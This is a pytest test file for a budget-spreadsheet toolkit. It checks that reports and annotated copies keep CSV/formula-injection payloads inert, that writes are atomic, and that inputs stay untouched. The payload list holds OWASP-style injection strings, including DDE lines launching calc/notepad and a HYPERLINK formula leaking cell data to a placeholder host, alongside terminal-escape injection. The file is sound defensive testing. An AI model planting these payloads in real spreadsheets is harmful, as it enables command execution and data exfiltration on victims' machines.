"""Nothing harmful is passed on: submission text stays inert in every output, every output
is written whole or not at all, and the offices' files are never modified.

Payloads are the classic CSV/formula-injection strings (OWASP): formulas, HYPERLINK
exfiltration, DDE command lines, and the tab/CR variants. A clerk can type any of them as
text (Excel keeps a leading apostrophe as a text prefix), so they arrive as text cells.
"""

from __future__ import annotations

import csv
import errno
import hashlib
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import builders as B
import hostile as H
import pytest
from click.testing import CliRunner

from toolkit.catalog import Catalog
from toolkit.catalog.io import export_catalog
from toolkit.cli import cli
from toolkit.output.annotate import annotate, annotate_file
from toolkit.output.report import write_csv, write_json
from toolkit.output.report_xlsx import write_report
from toolkit.rules.batch import check
from toolkit.safety import FORMULA_TRIGGERS, atomic_write, csv_safe
from toolkit.template import write_template
from toolkit.totals.rollup import summarize

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "\t=1+1",
    "\r=1+1",
]
# what a spreadsheet would have to parse as a formula for a payload to do harm
FRAGMENTS = ("1+1", "cmd|", "HYPERLINK", "DDE(")
# build_submission layout: header on row 3, lines from row 4; text fields by column
TEXT_COLUMNS = {"project": "B", "content": "F", "provider": "G", "target": "L", "note": "M"}
NUMBER = re.compile(r"-?\d[\d,]*(\.\d+)?%?")


def payload_submission(path: Path, catalog: Catalog, unit: str = "中原区") -> Path:
    """One accepted line per payload (payload in every text field), and one rejected line
    whose code and 购买方式 are payloads, all written as text cells."""
    from openpyxl import load_workbook

    lines = [
        B.line(project=p, content=p, provider=p, target=p, note=p, amount=100 + i)
        for i, p in enumerate(PAYLOADS)
    ]
    lines.append(B.line(project="被拒的行", code=PAYLOADS[5], method=PAYLOADS[4], amount=7))
    B.build_submission(path, lines, unit=unit, stamp=B.stamp_for(catalog))
    wb = load_workbook(path)
    ws = wb["预算表"]
    for row in ws.iter_rows(min_row=4):
        for cell in row:
            if isinstance(cell.value, str) and cell.value in PAYLOADS:
                cell.data_type = "s"  # typed as text ('=...), not as a formula
    wb.save(path)
    return path


@pytest.fixture
def batch(tmp_path: Path, catalog: Catalog) -> Any:
    inputs = tmp_path / "in"
    inputs.mkdir()
    payload_submission(inputs / "payloads.xlsx", catalog)
    # a unit name that is itself a payload: unit-unknown, and it appears in unit tables
    B.build_submission(
        inputs / "unit.xlsx", [B.line(amount=1)], unit="中原区", stamp=B.stamp_for(catalog)
    )
    _retype(inputs / "unit.xlsx", "C2", '=HYPERLINK("http://example.invalid","单位")')
    result = check(inputs, catalog)
    return inputs, result


def _retype(path: Path, ref: str, text: str) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    wb["预算表"][ref] = text
    wb["预算表"][ref].data_type = "s"
    wb.save(path)


def test_the_payloads_arrive_as_text(batch: Any) -> None:
    """The fixture is what it claims: payloads are read as text, rows accepted."""
    _, result = batch
    # the reader strips surrounding blanks, so "\t=1+1" arrives as "=1+1": still a trigger
    assert {p.strip() for p in PAYLOADS} <= set(result.rows["project"])
    assert len(result.rows[result.rows["file"].str.endswith("payloads.xlsx")]) == len(PAYLOADS)
    assert set(result.issues["rule"]) >= {"unknown-code", "value-not-in-list", "unit-unknown"}


# -- xlsx: strings stay strings ------------------------------------------------------------------
def _formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as zf:
        return [
            f.decode("utf-8", "replace")
            for name in zf.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
            for f in re.findall(rb"<(?:\w+:)?f\b[^>]*>(.*?)</(?:\w+:)?f>", zf.read(name), re.S)
        ]


def _payload_cells(path: Path) -> list[Any]:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return [
        cell
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and any(f in cell.value for f in FRAGMENTS)
    ]


def test_report_xlsx_writes_submission_text_as_strings(batch: Any, tmp_path: Path) -> None:
    _, result = batch
    report = write_report(summarize(result), tmp_path / "report.xlsx")
    assert not [f for f in _formulas(report) if any(x in f for x in FRAGMENTS)]
    cells = _payload_cells(report)
    values = {c.value for c in cells}
    assert {"=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-1+1"} <= values  # intact, not mangled
    for cell in cells:
        assert cell.data_type == "s", (cell.parent.title, cell.coordinate, cell.value)
    # the unit payload (unit-unknown) and the rejected line's code show up as text too
    assert any(v.startswith("=HYPERLINK") for v in values)


def test_annotated_copy_keeps_payloads_as_strings(batch: Any, tmp_path: Path) -> None:
    _, result = batch
    done = {Path(a.source).name: a for a in annotate(result, tmp_path / "out")}
    copy = done["payloads.xlsx"].target
    assert copy is not None and copy.exists()
    assert not [f for f in _formulas(copy) if any(x in f for x in FRAGMENTS)]
    cells = _payload_cells(copy)
    sheets = {c.parent.title for c in cells}
    assert {"问题清单", "预算表"} <= sheets  # listed in 问题清单 and kept in the office's sheet
    for cell in cells:
        assert cell.data_type == "s", (cell.parent.title, cell.coordinate, cell.value)


# -- CSV: OWASP ------------------------------------------------------------------------------------
@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_safe_prefixes_every_formula_trigger(payload: str) -> None:
    assert csv_safe(payload) == "'" + payload


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_csv_safe_covers_the_owasp_triggers(trigger: str) -> None:
    assert trigger in FORMULA_TRIGGERS
    assert csv_safe(trigger + "x") == "'" + trigger + "x"


@pytest.mark.parametrize("value", ["项目", "", "1+1", 5, -5, 1.5, None])
def test_csv_safe_leaves_plain_text_and_numbers_alone(value: Any) -> None:
    assert csv_safe(value) == value


def test_report_csv_prefixes_formula_triggers(batch: Any, tmp_path: Path) -> None:
    _, result = batch
    files = write_csv(summarize(result), tmp_path / "csv")
    seen: set[str] = set()
    for path in files:
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for value in row:
                    if value.startswith(FORMULA_TRIGGERS):
                        # only a number (an amount, a share) may start with "-"
                        assert NUMBER.fullmatch(value), (path.name, value)
                    if value.startswith("'"):
                        seen.add(value[1:])
    for payload in ("=cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "=1+1"):
        assert payload in seen, payload


@pytest.mark.libreoffice
@pytest.mark.parametrize("output", ["report", "annotated"])
def test_libreoffice_shows_the_payloads_as_text(
    batch: Any, tmp_path: Path, lo_convert: Callable[..., Path], output: str
) -> None:
    """A real spreadsheet opens the output and recalculates: the payloads stay text."""
    _, result = batch
    if output == "report":
        path = write_report(summarize(result), tmp_path / "report.xlsx")
    else:
        done = {Path(a.source).name: a for a in annotate(result, tmp_path / "out")}
        path = done["payloads.xlsx"].target
    resaved = lo_convert(path, tmp_path / "lo")
    assert not [f for f in _formulas(resaved) if any(x in f for x in FRAGMENTS)]
    before = {(c.parent.title, c.coordinate): c.value for c in _payload_cells(path)}
    after = {(c.parent.title, c.coordinate): c for c in _payload_cells(resaved)}
    assert before  # the output really carries the payloads
    for key, value in before.items():  # same cell, same text, still a string: never evaluated
        assert key in after, key
        assert (after[key].value, after[key].data_type) == (value, "s"), key


def test_terminal_output_shows_control_characters_never_obeys_them(
    tmp_path: Path, catalog: Catalog
) -> None:
    source = B.build_submission(
        tmp_path / "src.xlsx", [B.line(code="ESC-MARK")], stamp=B.stamp_for(catalog)
    )
    path = H.rewrite(
        source,
        tmp_path / "esc.xlsx",
        {H.entry_sheet_part(source): lambda x: x.replace(b"ESC-MARK", b"_x001B_[2J_x0007_")},
    )
    out = CliRunner().invoke(cli, ["check", str(path)])
    assert out.exit_code == 1, out.output
    assert "unknown-code" in out.output or "目录编码" in out.output
    assert "\x1b" not in out.output and "\x07" not in out.output


# -- atomic writes -------------------------------------------------------------------------------
class DiskFull:
    """Installs writers that put part of a file on disk and then fail, like a full disk."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.calls = 0
        real_writestr = zipfile.ZipFile.writestr
        real_write = zipfile.ZipFile.write
        real_text = Path.write_text

        def fail() -> None:
            raise OSError(errno.ENOSPC, "No space left on device")

        def writestr(zf: zipfile.ZipFile, *a: Any, **kw: Any) -> Any:
            self.calls += 1
            if self.calls > 1:
                fail()
            return real_writestr(zf, *a, **kw)

        def write(zf: zipfile.ZipFile, *a: Any, **kw: Any) -> Any:
            self.calls += 1
            if self.calls > 1:
                fail()
            return real_write(zf, *a, **kw)

        def write_text(path: Path, data: str, *a: Any, **kw: Any) -> int:
            self.calls += 1
            real_text(path, data[: len(data) // 2], *a, **kw)
            fail()
            return 0

        real_open = zipfile.ZipFile.open

        def open_member(zf: zipfile.ZipFile, name: Any, mode: str = "r", **kw: Any) -> Any:
            if mode == "w":  # members streamed in (the annotated copy's parts)
                self.calls += 1
                if self.calls > 1:
                    fail()
            return real_open(zf, name, mode, **kw)

        monkeypatch.setattr(zipfile.ZipFile, "writestr", writestr)
        monkeypatch.setattr(zipfile.ZipFile, "write", write)
        monkeypatch.setattr(zipfile.ZipFile, "open", open_member)
        monkeypatch.setattr(Path, "write_text", write_text)


def _writers(catalog: Catalog, batch: Any) -> dict[str, Callable[[Path], Any]]:
    inputs, result = batch
    summary = summarize(result)
    issues = [i for f in result.files if f.path.endswith("payloads.xlsx") for i in f.issues]
    return {
        "report.xlsx": lambda p: write_report(summary, p),
        "report.json": lambda p: write_json(summary, p),
        "annotated.xlsx": lambda p: annotate_file(inputs / "payloads.xlsx", issues, p),
        "template.xlsx": lambda p: write_template(catalog, p),
        "catalog.xlsx": lambda p: export_catalog(catalog, p),
        "catalog.csv": lambda p: export_catalog(catalog, p),
        "catalog.json": lambda p: export_catalog(catalog, p),
    }


WRITERS = [
    "report.xlsx",
    "report.json",
    "annotated.xlsx",
    "template.xlsx",
    "catalog.xlsx",
    "catalog.csv",
    "catalog.json",
]


@pytest.mark.parametrize("name", WRITERS)
@pytest.mark.parametrize("existing", [False, True], ids=["new", "replacing"])
def test_a_failed_write_leaves_no_half_file(
    name: str,
    existing: bool,
    batch: Any,
    catalog: Catalog,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    writer = _writers(catalog, batch)[name]
    out = tmp_path / "out"
    out.mkdir()
    target = out / name
    if existing:  # last week's report must survive a failed rewrite untouched
        target.write_bytes(b"previous version")
    disk = DiskFull(monkeypatch)
    with pytest.raises(Exception, match="No space left"):  # xlsxwriter wraps the OSError
        writer(target)
    assert disk.calls >= 1  # the failure really happened inside the write
    assert sorted(p.name for p in out.iterdir()) == ([name] if existing else [])
    if existing:
        assert target.read_bytes() == b"previous version"


def test_failed_csv_set_leaves_only_whole_files(
    batch: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, result = batch
    summary = summarize(result)
    good = write_csv(summary, tmp_path / "whole")
    DiskFull(monkeypatch)
    with pytest.raises(OSError):
        write_csv(summary, tmp_path / "csv")
    assert list((tmp_path / "csv").iterdir()) == []  # the first CSV failed: nothing at all
    assert all(p.stat().st_size > 0 for p in good)


def test_atomic_write_cleans_up_on_any_exception(tmp_path: Path) -> None:
    target = tmp_path / "x.txt"
    with pytest.raises(KeyboardInterrupt), atomic_write(target) as tmp:
        tmp.write_text("half")
        raise KeyboardInterrupt
    assert list(tmp_path.iterdir()) == []


# -- inputs are never modified -------------------------------------------------------------------
def _fingerprint(folder: Path) -> dict[str, tuple[str, int, int]]:
    return {
        str(p.relative_to(folder)): (
            hashlib.sha256(p.read_bytes()).hexdigest(),
            p.stat().st_size,
            p.stat().st_mtime_ns,
        )
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def test_check_annotate_rollup_and_reports_never_touch_the_inputs(
    batch: Any, catalog: Catalog, tmp_path: Path
) -> None:
    inputs, _ = batch
    B.build_submission(inputs / "good.xlsx", [B.line()], unit="金水区", stamp=B.stamp_for(catalog))
    H.old_xls(inputs / "old.xls")
    H.with_macro(inputs / "macro.xlsm")
    H.truncated_zip(inputs / "cut.xlsx", inputs / "good.xlsx")
    H.billion_laughs_sheet(inputs / "laughs.xlsx")
    (inputs / "~$good.xlsx").write_bytes(b"\x00lock")  # an Office lock file, ignored
    before = _fingerprint(inputs)
    result = check(inputs, catalog)
    summary = summarize(result)
    out = tmp_path / "out"
    annotate(result, out / "annotated")
    write_report(summary, out / "report.xlsx")
    write_csv(summary, out / "csv")
    write_json(summary, out / "report.json")
    runner = CliRunner()
    runner.invoke(cli, ["check", str(inputs), "--annotate", str(out / "cli")])
    runner.invoke(cli, ["rollup", str(inputs), "-o", str(out / "cli-report.xlsx")])
    assert _fingerprint(inputs) == before


def test_annotating_into_the_input_folder_adds_copies_and_changes_nothing_else(
    batch: Any, catalog: Catalog
) -> None:
    inputs, result = batch
    before = _fingerprint(inputs)
    done = annotate(result, inputs)
    after = _fingerprint(inputs)
    assert {k: v for k, v in after.items() if k in before} == before
    added = set(after) - set(before)
    assert added == {Path(a.target).name for a in done if a.target}
    assert added and all("问题标注" in name for name in added)


def test_atomic_write_works_for_the_longest_file_names(tmp_path: Path) -> None:
    # 80 Chinese characters: 245 bytes, a legal name; its temporary name must be legal too
    target = tmp_path / ("预算" * 40 + ".xlsx")
    with atomic_write(target) as tmp:
        tmp.write_text("whole")
    assert target.read_text() == "whole"
    assert [p.name for p in tmp_path.iterdir()] == [target.name]
